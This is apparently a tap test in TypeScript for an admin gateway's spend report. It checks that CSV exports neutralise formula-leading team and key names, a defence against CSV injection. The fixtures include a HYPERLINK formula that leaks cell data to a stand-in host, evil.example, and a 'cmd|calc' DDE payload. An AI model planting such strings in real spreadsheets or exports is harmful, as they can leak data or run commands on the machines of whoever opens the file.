// Issue 20, item 5: team and key names that a spreadsheet would run as formulas come out of the spend CSV as text
// (a leading quote, OWASP "CSV Injection"), properly quoted; the JSON report keeps them as they are.
import t from 'tap'
import { adminBed } from '../../helpers/admin-bed.ts'
import { makeKey, makeTeam } from '../../helpers/factories.ts'

t.test('the spend CSV neutralises names starting with = + - @ TAB or CR', async t => {
  const bed = await adminBed(t)
  const teamName = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
  const team = await makeTeam(bed.gw.db, { slug: 'formula-team', name: teamName })
  const names = ['@SUM(1+1)*cmd|calc', '+1+1', '-1+1', '\t=1+1', '\r=1+1']
  const today = new Date(new Date().toISOString().slice(0, 10))
  for (const name of names) {
    const key = await makeKey(bed.gw.db, { teamId: team.id, scopes: ['jobs:read'], name })
    await bed.gw.db.spendDailyKey.create({
      data: { teamId: team.id, day: today, apiKeyId: key.id, charged: '1', refunded: '3' }
    })
  }

  const csv = await bed.call('GET', '/admin/v1/reports/spend?group_by=team,key&format=csv', { key: bed.finance.key })
  t.equal(csv.status, 200)
  const lines = csv.text.split('\r\n').slice(1, -1)
  t.equal(lines.length, names.length, 'one line per key (a quoted CR does not end a line)')
  const quotedTeam = `"'${teamName.replaceAll('"', '""')}"`
  for (const name of names) {
    const cell = /[\r,"]/.test(name) ? `"'${name}"` : `'${name}`
    const line = lines.find(l => l.includes(cell))
    t.ok(line, `${JSON.stringify(name)} is written as ${JSON.stringify(cell)}`)
    t.ok(line?.startsWith(`formula-team,${quotedTeam},`), 'the team name too, quoted as RFC 4180 asks')
    t.match(line, /,1\.0000,3\.0000,-2\.0000,/, 'a negative net stays a number')
  }

  const json = await bed.call<{ rows: Array<{ teamName: string, keyName: string }> }>(
    'GET', '/admin/v1/reports/spend?group_by=team,key', { key: bed.finance.key })
  t.same(json.body.rows.map(row => row.keyName).sort(), [...names].sort(), 'the JSON report is unchanged')
  t.ok(json.body.rows.every(row => row.teamName === teamName))
})
